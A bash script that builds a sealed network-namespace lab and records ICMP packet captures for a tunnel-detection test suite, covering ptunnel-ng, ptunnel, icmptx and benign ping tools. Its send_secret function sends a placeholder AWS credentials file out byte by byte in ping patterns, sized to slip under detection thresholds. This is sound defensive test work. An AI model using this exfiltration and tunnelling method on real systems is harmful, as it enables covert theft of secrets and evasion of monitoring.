#!/bin/bash
# record_icmp_tunnels.sh - record the detection suite's ICMP captures from real tools:
# three ICMP tunnels (ptunnel-ng, ptunnel, icmptx) and the benign ICMP a sandbox sees
# (ping in its usual forms, ping6, traceroute, tracepath, mtr, path-MTU errors,
# unreachables), into pcaps/detect/icmp_*.pcap
#
# README
#   sudo pcaps/record_icmp_tunnels.sh [OUTDIR [CAPTURE]]   (default: pcaps/detect beside
#   this script, every capture; CAPTURE, one name below without .pcap, records that one
#   alone, and the tunnels' programs are then needed only for their own)
#
# Needs root, /dev/net/tun (icmptx), iproute2, ethtool, ptunnel-ng, ptunnel, icmptx,
# iputils-ping, iputils-tracepath, traceroute, mtr-tiny, python3, dumpcap and tshark.
# The rules that go with the captures are tests/detect/sandbox.yaml (its sandbox holds
# 10.55.4.0/28 and fd55:4::/120, the agent's side of the router below);
# tests/detect/README.md lists what each capture holds and the alerts it should raise.
#
# It builds a private three-namespace network and nothing else:
#   ewi4-agent   10.55.4.10/28  fd55:4::10/120   the sandboxed agent      veth ewi4-a
#   ewi4-router  10.55.4.1/28   fd55:4::1/120    on ewi4-ra (agent side)
#                10.55.4.65/26  fd55:4::101/120  on ewi4-rs (outside; MTU 1300), a
#                router that forwards between them and refuses 10.55.4.200 and
#                fd55:4::200 (prohibit routes: ICMP administratively prohibited)
#   ewi4-server  10.55.4.80/26  fd55:4::180/120  "outside": the tunnels' servers and an
#                TCP echo responder (127.0.0.1:7777, and 10.55.4.241:7778 behind icmptx)
#                                                                          veth ewi4-s
# Every veth is created with both ends already inside these namespaces; the root
# namespace's interfaces are not touched. No default route, no NAT, no link to the
# host's interfaces: the agent and the server route only 10.55.4.0/24 and fd55:4::/64
# through the router, and icmptx's tunnel network 10.55.4.240/29 lives on a tun device
# in each of them. IPv6 runs without router advertisements, and without link-local
# addresses but on the router's two ports.
# Offloads are off on every veth. The outside link's MTU (1300) makes the router send
# the path-MTU errors (ICMP fragmentation needed, ICMPv6 packet too big).
#
# Captures (dumpcap on the agent's veth, ICMP and ICMPv6 plus the UDP probes of
# traceroute, one file each, each stopping by itself after 60 s):
#   icmp_ptunnel_ng.pcap        ptunnel-ng 1.42 client (agent) to its proxy (server):
#                               an interactive session (40 messages of 48 random bytes,
#                               0.15 s apart, each echoed by the responder), then 12 KB
#                               of random data echoed back
#   icmp_ptunnel_ng_small.pcap  the interactive session alone (small packets only)
#   icmp_ptunnel.pcap           ptunnel 0.72 (the original): the same interactive session
#                               and 6 KB echoed
#   icmptx.pcap                 icmptx (IP over ICMP echo; the server's kernel ignores
#                               echo requests, as icmptx wants): 6 KB over TCP echoed by
#                               the responder behind it
#   icmp_benign.pcap            ping (56 bytes), ping -s 100, -M dont -s 1400 (fragmented by
#                               the router), -M do -s 1400 (the router's fragmentation needed
#                               alone), -p ff00, -p with a 16-byte pattern, a bounded
#                               flood (-f -c 100), ping6 (56 and -s 1200, and 1400:
#                               packet too big), traceroute (UDP and -I), tracepath, mtr
#                               --report (ICMP), a UDP datagram to a closed port (port
#                               unreachable), pings to the prohibited addresses (v4, v6)
#   icmp_pattern.pcap           a file sent out in ping's pattern: 12 pings (ping -c 1
#                               -s 32 -p HEX, one process each), each carrying the
#                               next 16 bytes of a credentials file as its pattern, all
#                               answered (data that changes at every echo, 32 bytes of
#                               it each, at under 4.2 bits/byte: under the size, entropy
#                               and volume thresholds)
#   icmp_lead.pcap              the same file sent out in pings too small for a timestamp:
#                               12 pings (ping -c 1 -s 15 -p HEX, one process each), each
#                               payload the next 15 bytes of the file and nothing else, all
#                               answered (ping writes its send time only into a payload of
#                               16 bytes or more, and the digests leave the first 16 out)
#   icmp_benign_tools.pcap      other pingers, 12 echoes each to the server: fping (56
#                               and -b 300 bytes of zeros), busybox ping (56, and -s 200
#                               -p a5), oping, nping (no data, and --data-string),
#                               hping3 -1 (no data, and -d 100): each sends the same data
#                               at every echo
#
# Every client is bounded (timeout around each, ping -c/-w, python socket timeouts); every
# loop that waits is bounded. A second dumpcap on the router's two ports records
# everything (snaplen 128, stopping by itself after 600 s); at the end tshark checks that
# no packet went to an address other than these hosts' (the run fails otherwise). A trap
# kills every process started here and deletes the namespaces on any exit.
#
# The captures are real traffic, so ids, keys, payloads and timestamps differ on every
# run: record once and commit the files; the detection suite pins what they raise.
set -eu

HERE=$(cd "$(dirname "$0")" && pwd)
. "$HERE/../tests/lib/netns.sh"
OUTDIR=${1:-$HERE/detect}
ONLY=${2:-}
# want CAPTURE...: is one of them to be recorded
want() {
	local c
	[ -z "$ONLY" ] && return 0
	for c in "$@"; do [ "$c" = "$ONLY" ] && return 0; done
	return 1
}
case "$ONLY" in
'' | icmp_ptunnel_ng | icmp_ptunnel_ng_small | icmp_ptunnel | icmptx | icmp_benign | icmp_pattern | \
	icmp_lead | icmp_benign_tools) ;;
*) echo "record_icmp_tunnels.sh: no capture named $ONLY" >&2; exit 2 ;;
esac
NS_A=ewi4-agent
NS_R=ewi4-router
NS_S=ewi4-server
ALL_NS="$NS_A $NS_R $NS_S"
IF_A=ewi4-a
IF_RA=ewi4-ra
IF_RS=ewi4-rs
IF_S=ewi4-s
IP_A=10.55.4.10
IP_RA=10.55.4.1
IP_RS=10.55.4.65
IP_S=10.55.4.80
IP_NO=10.55.4.200   # prohibited by the router
IP6_A=fd55:4::10
IP6_RA=fd55:4::1
IP6_RS=fd55:4::101
IP6_S=fd55:4::180
IP6_NO=fd55:4::200
TX_S=10.55.4.241    # icmptx tunnel addresses (10.55.4.240/29)
TX_A=10.55.4.242

netns_init record_icmp_tunnels.sh /tmp/ew-record-icmp.XXXXXX "$ALL_NS"

[ "$(id -u)" -eq 0 ] || { echo "record_icmp_tunnels.sh: must run as root" >&2; exit 2; }
TOOLS="ip ethtool ping python3 dumpcap tshark timeout"
want icmp_ptunnel_ng icmp_ptunnel_ng_small && TOOLS="$TOOLS ptunnel-ng"
want icmp_ptunnel && TOOLS="$TOOLS ptunnel"
want icmptx && TOOLS="$TOOLS icmptx"
want icmp_benign && TOOLS="$TOOLS tracepath traceroute mtr"
want icmp_benign_tools && TOOLS="$TOOLS fping busybox oping nping hping3"
for t in $TOOLS; do
	command -v "$t" >/dev/null || { echo "record_icmp_tunnels.sh: $t not found" >&2; exit 2; }
done
if want icmptx && [ ! -c /dev/net/tun ]; then
	echo "record_icmp_tunnels.sh: /dev/net/tun missing (icmptx needs it)" >&2
	exit 2
fi
mkdir -p "$OUTDIR"

netns_clear_leftovers

# --- the network ---------------------------------------------------------------------
netns_create $ALL_NS
netns_ipv6_static "$NS_A" "$NS_S"
# The router keeps its link-local addresses: a forwarded packet's neighbour
# solicitation is sent from one (without, Linux sends none and the server is
# unreachable over IPv6); it ignores router advertisements and, forwarding, sends no
# router solicitation.
ip netns exec "$NS_R" sysctl -qw net.ipv6.conf.all.accept_ra=0
ip netns exec "$NS_R" sysctl -qw net.ipv6.conf.default.accept_ra=0
ip netns exec "$NS_R" sysctl -qw net.ipv6.conf.default.accept_dad=0 # usable at once
# link NS1 IF1 NS2 IF2: a veth with both ends in place, offloads off, both ends up
link() {
	ip link add "$2" netns "$1" type veth peer name "$4" netns "$3"
	offload_off "$1" "$2"
	offload_off "$3" "$4"
	ip -n "$1" link set "$2" up
	ip -n "$3" link set "$4" up
}
link "$NS_A" "$IF_A" "$NS_R" "$IF_RA"
link "$NS_R" "$IF_RS" "$NS_S" "$IF_S"
ip -n "$NS_R" link set "$IF_RS" mtu 1300
ip -n "$NS_S" link set "$IF_S" mtu 1300
ip -n "$NS_A" addr add "$IP_A/28" dev "$IF_A"
ip -n "$NS_A" addr add "$IP6_A/120" dev "$IF_A" nodad
ip -n "$NS_R" addr add "$IP_RA/28" dev "$IF_RA"
ip -n "$NS_R" addr add "$IP6_RA/120" dev "$IF_RA" nodad
ip -n "$NS_R" addr add "$IP_RS/26" dev "$IF_RS"
ip -n "$NS_R" addr add "$IP6_RS/120" dev "$IF_RS" nodad
ip -n "$NS_S" addr add "$IP_S/26" dev "$IF_S"
ip -n "$NS_S" addr add "$IP6_S/120" dev "$IF_S" nodad
ip -n "$NS_A" route add 10.55.4.0/24 via "$IP_RA"
ip -n "$NS_A" -6 route add fd55:4::/64 via "$IP6_RA"
ip -n "$NS_S" route add 10.55.4.0/24 via "$IP_RS"
ip -n "$NS_S" -6 route add fd55:4::/64 via "$IP6_RS"
ip -n "$NS_R" route add prohibit "$IP_NO/32"
ip -n "$NS_R" -6 route add prohibit "$IP6_NO/128"
ip netns exec "$NS_R" sysctl -qw net.ipv4.ip_forward=1
ip netns exec "$NS_R" sysctl -qw net.ipv6.conf.all.forwarding=1
# the router answers at its own pace (no ICMP rate limit would bite these few probes,
# but traceroute's bursts and the flood should not lose their errors)
ip netns exec "$NS_R" sysctl -qw net.ipv4.icmp_ratelimit=0
ip netns exec "$NS_R" sysctl -qw net.ipv6.icmp.ratelimit=0
ip netns exec "$NS_S" sysctl -qw net.ipv4.icmp_ratelimit=0
ip netns exec "$NS_S" sysctl -qw net.ipv6.icmp.ratelimit=0

NETNS_SWITCH=$NS_R # the safety capture runs on the router's two ports
NETNS_PORTS="$IF_RA $IF_RS"
netns_audit_start 600

# --- helper programs -------------------------------------------------------------------
# A TCP echo responder on ADDR:PORT: echoes what it reads until EOF or 5 s idle. At most
# 8 connections, 300 s in all.
cat >"$TMP/echo.py" <<'EOF'
import socket, sys, time
srv = socket.socket()
srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
srv.bind((sys.argv[1], int(sys.argv[2])))
srv.listen(4)
open(sys.argv[3], "w").close()
deadline = time.monotonic() + 300
for _ in range(8):
    left = deadline - time.monotonic()
    if left <= 0:
        break
    srv.settimeout(left)
    try:
        c, _ = srv.accept()
    except OSError:
        break
    c.settimeout(5)
    n = 0
    try:
        while n < 1 << 20:
            d = c.recv(4096)
            if not d:
                break
            c.sendall(d)
            n += len(d)
    except OSError:
        pass
    finally:
        print("echoed %d bytes" % n, flush=True)
        c.close()
EOF

# The agent's side of a session through a tunnel: `chat HOST PORT N SIZE GAP` sends N
# messages of SIZE random bytes GAP s apart and reads each one's echo; `bulk HOST PORT
# BYTES` sends BYTES random bytes and reads the echo. 10 s socket timeouts, 40 s in all.
cat >"$TMP/client.py" <<'EOF'
import os, socket, sys, time
mode, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
end = time.monotonic() + 40
s = socket.create_connection((host, port), timeout=10)
def read_n(n):
    got = b""
    while len(got) < n and time.monotonic() < end:
        try:
            d = s.recv(n - len(got))
        except socket.timeout:
            break
        if not d:
            break
        got += d
    return got
if mode == "chat":
    n, size, gap = int(sys.argv[4]), int(sys.argv[5]), float(sys.argv[6])
    ok = 0
    for _ in range(n):
        if time.monotonic() >= end:
            break
        m = os.urandom(size)
        s.sendall(m)
        ok += read_n(size) == m
        time.sleep(gap)
    print("chat: %d of %d messages echoed" % (ok, n))
else:
    total = int(sys.argv[4])
    m = os.urandom(total)
    s.sendall(m)
    print("bulk: %d of %d bytes echoed %s" % (total, total, "intact" if read_n(total) == m else "NOT intact"))
s.close()
EOF

# wait_file FILE: 10 s at most for FILE to appear
wait_file() {
	for _ in $(seq 1 100); do [ -e "$1" ] && return 0; sleep 0.1; done
	echo "record_icmp_tunnels.sh: $1 did not appear" >&2
	return 1
}
# wait_port NS PORT: 10 s at most for a TCP listener on PORT in NS
wait_port() {
	for _ in $(seq 1 100); do
		ip netns exec "$1" ss -Hltn "sport = :$2" 2>/dev/null | grep -q . && return 0
		sleep 0.1
	done
	echo "record_icmp_tunnels.sh: nothing listens on :$2 in $1" >&2
	return 1
}

netns_bg "$NS_S" python3 "$TMP/echo.py" 127.0.0.1 7777 "$TMP/echo.ready" >"$TMP/echo.log" 2>&1
wait_file "$TMP/echo.ready"

# --- captures --------------------------------------------------------------------------
FILTER="icmp or icmp6 or udp"
start_capture() { netns_capture_start "$NS_A" "$IF_A" "$1" "$FILTER" 60; }
stop_capture() { netns_capture_stop; }
agent() { netns_log_exec "$NS_A" "$TMP/agent.log" "$@"; } # agent CMD...: log, never fail
CHAT=(timeout 45 python3 "$TMP/client.py" chat 127.0.0.1)

# 1. ptunnel-ng: the proxy in the server, the client in the agent listening on :2222
if want icmp_ptunnel_ng icmp_ptunnel_ng_small; then
netns_bg "$NS_S" timeout 200 ptunnel-ng -r127.0.0.1 -R7777 -v1 >"$TMP/ptng-proxy.log" 2>&1
P1=$NETNS_PID
sleep 0.5
netns_bg "$NS_A" timeout 200 ptunnel-ng -p"$IP_S" -l2222 -r127.0.0.1 -R7777 -v1 \
	>"$TMP/ptng-client.log" 2>&1
P2=$NETNS_PID
wait_port "$NS_A" 2222
start_capture icmp_ptunnel_ng_small
agent "${CHAT[@]}" 2222 40 48 0.15
stop_capture
start_capture icmp_ptunnel_ng
agent "${CHAT[@]}" 2222 40 48 0.15
agent timeout 45 python3 "$TMP/client.py" bulk 127.0.0.1 2222 12288
stop_capture
stop_pid "$P2" TERM
stop_pid "$P1" TERM
sleep 1
fi

# 2. ptunnel (the original, 0.72): the same, client on :2223
if want icmp_ptunnel; then
netns_bg "$NS_S" timeout 120 ptunnel -v 1 >"$TMP/pt-proxy.log" 2>&1
P1=$NETNS_PID
sleep 0.5
netns_bg "$NS_A" timeout 120 ptunnel -p "$IP_S" -lp 2223 -da 127.0.0.1 -dp 7777 -v 1 \
	>"$TMP/pt-client.log" 2>&1
P2=$NETNS_PID
wait_port "$NS_A" 2223
start_capture icmp_ptunnel
agent "${CHAT[@]}" 2223 40 48 0.15
agent timeout 45 python3 "$TMP/client.py" bulk 127.0.0.1 2223 6144
stop_capture
stop_pid "$P2" TERM
stop_pid "$P1" TERM
sleep 1
fi

# 3. icmptx: IP over ICMP echo between tun devices; its server wants the kernel's echo
# replies off. The responder listens behind the tunnel on 10.55.4.241:7778. No ping
# across the tunnel: icmptx's server answers whoever sent it the last ICMP message,
# its raw socket sees the inner ping on its own tun device too, and it then loops its
# own replies back into the tunnel.
if want icmptx; then
ip netns exec "$NS_S" sysctl -qw net.ipv4.icmp_echo_ignore_all=1
netns_bg "$NS_S" timeout 120 icmptx -s "$IP_S" >"$TMP/icmptx-server.log" 2>&1
P1=$NETNS_PID
netns_bg "$NS_A" timeout 120 icmptx -c "$IP_S" >"$TMP/icmptx-client.log" 2>&1
P2=$NETNS_PID
for ns in "$NS_S" "$NS_A"; do
	for _ in $(seq 1 50); do ip -n "$ns" link show tun0 >/dev/null 2>&1 && break; sleep 0.1; done
done
ip -n "$NS_S" addr add "$TX_S/29" dev tun0
ip -n "$NS_A" addr add "$TX_A/29" dev tun0
ip -n "$NS_S" link set tun0 mtu 1200 up
ip -n "$NS_A" link set tun0 mtu 1200 up
netns_bg "$NS_S" python3 "$TMP/echo.py" "$TX_S" 7778 "$TMP/echo-tx.ready" >"$TMP/echo-tx.log" 2>&1
wait_file "$TMP/echo-tx.ready"
start_capture icmptx
agent timeout 45 python3 "$TMP/client.py" bulk "$TX_S" 7778 6144
stop_capture
stop_pid "$P2" TERM
stop_pid "$P1" TERM
ip netns exec "$NS_S" sysctl -qw net.ipv4.icmp_echo_ignore_all=0
sleep 1
fi

# 4. benign ICMP
if want icmp_benign; then
start_capture icmp_benign
agent ping -n -c 3 -i 0.2 -W 2 -w 5 "$IP_S"
agent ping -n -c 3 -i 0.2 -W 2 -w 5 -s 100 "$IP_S"
agent ping -n -c 3 -i 0.3 -W 2 -w 5 -M dont -s 1400 "$IP_S"
agent ping -n -c 2 -i 0.3 -W 1 -w 3 -M do -s 1400 "$IP_S"
agent ping -n -c 3 -i 0.2 -W 2 -w 5 -s 200 -p ff00 "$IP_S"
agent ping -n -c 3 -i 0.2 -W 2 -w 5 -s 1000 -p 0123456789abcdeffedcba9876543210 "$IP_S"
agent ping -n -f -c 100 -W 1 -w 10 "$IP_S"
agent ping -6 -n -c 3 -i 0.2 -W 2 -w 5 "$IP6_S"
agent ping -6 -n -c 2 -i 0.3 -W 2 -w 5 -s 1200 "$IP6_S"
agent ping -6 -n -c 2 -i 0.3 -W 2 -w 5 -s 1400 "$IP6_S"
agent timeout 20 traceroute -n -q 1 -w 1 -m 5 "$IP_S"
agent timeout 20 traceroute -n -I -q 1 -w 1 -m 5 "$IP_S"
agent timeout 20 traceroute -6 -n -q 1 -w 1 -m 5 "$IP6_S"
agent timeout 20 tracepath -n -m 5 "$IP_S"
agent timeout 20 mtr -n -r -c 2 -i 0.2 "$IP_S"
agent timeout 5 python3 -c "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'probe', ('$IP_S', 9)); s.settimeout(1)
try: s.recv(64)
except OSError as e: print('udp :9:', e)"
agent ping -n -c 2 -i 0.3 -W 1 -w 3 "$IP_NO"
agent ping -6 -n -c 2 -i 0.3 -W 1 -w 3 "$IP6_NO"
stop_capture
fi

# send_secret CAPTURE BYTES SIZE: a credentials file sent out BYTES a ping, each its
# pattern, in 12 pings of SIZE bytes of payload (ping -c 1, one process each), into
# CAPTURE (the pattern captures, 5 and 5b)
send_secret() {
	printf '%s\n' 'aws_access_key_id = AKIAEXAMPLE7QX2KJ4ZT' \
		'aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY' 'region = us-east-1' \
		'aws_session_token = IQoJb3JpZ2luX2VjEXAMPLETOKENvalue0123456789abcdef' >"$TMP/secret"
	start_capture "$1"
	od -An -v -tx1 -w"$2" "$TMP/secret" | tr -d ' ' | head -12 | while read -r hex; do
		agent ping -n -c 1 -W 2 -w 3 -s "$3" -p "$hex" "$IP_S"
		sleep 0.2
	done
	stop_capture
}

# 5. a file sent out 16 bytes a ping, each its pattern (a send-only channel: the server's
# kernel answers every echo with the same bytes)
if want icmp_pattern; then send_secret icmp_pattern 16 32; fi

# 5b. the same, 15 bytes a ping and no timestamp: the whole payload is the pattern's
if want icmp_lead; then send_secret icmp_lead 15 15; fi

# 6. other pingers, 12 echoes each to the server within a minute: their data must not
# count as different at each echo (icmp_tunnel's distinct data)
if want icmp_benign_tools; then
start_capture icmp_benign_tools
agent timeout 20 fping -c 12 -p 200 "$IP_S"
agent timeout 20 fping -c 12 -p 200 -b 300 "$IP_S"
agent timeout 20 busybox ping -c 12 -i 0.2 -W 2 "$IP_S"
agent timeout 20 busybox ping -c 12 -i 0.2 -W 2 -s 200 -p a5 "$IP_S"
agent timeout 20 oping -c 12 -i 0.2 "$IP_S"
agent timeout 20 nping --icmp -c 12 --delay 200ms "$IP_S"
agent timeout 20 nping --icmp -c 12 --delay 200ms --data-string "nping probe" "$IP_S"
agent timeout 20 hping3 -1 -c 12 -i u200000 "$IP_S"
agent timeout 20 hping3 -1 -c 12 -i u200000 -d 100 "$IP_S"
stop_capture
fi

# --- audit: no packet may have gone to an address outside these hosts ------------------
netns_audit_finish "10\.55\.4\.(1|10|65|80|200|241|242)|fd55:4::(1|10|101|180|200)|fe80::[0-9a-f:]+|ff02::[0-9a-f:]+"

ALL="icmp_ptunnel_ng icmp_ptunnel_ng_small icmp_ptunnel icmptx icmp_benign icmp_pattern icmp_lead icmp_benign_tools"
[ -z "$ONLY" ] || ALL=$ONLY
for f in $ALL; do
	cp "$TMP/$f.pcap" "$OUTDIR/$f.pcap"
	chmod 644 "$OUTDIR/$f.pcap"
	echo "record_icmp_tunnels.sh: wrote $OUTDIR/$f.pcap ($(wc -c <"$OUTDIR/$f.pcap") bytes," \
		"$(tshark -r "$OUTDIR/$f.pcap" 2>/dev/null | wc -l) packets)"
done
echo "record_icmp_tunnels.sh: client results:"
grep -a -E '^(chat|bulk|udp)|packets transmitted' "$TMP/agent.log" | sed 's/, time .*//' | sort | uniq -c
echo "record_icmp_tunnels.sh: responder: $(cat "$TMP/echo.log" "$TMP/echo-tx.log" 2>/dev/null | tr '\n' ';')"
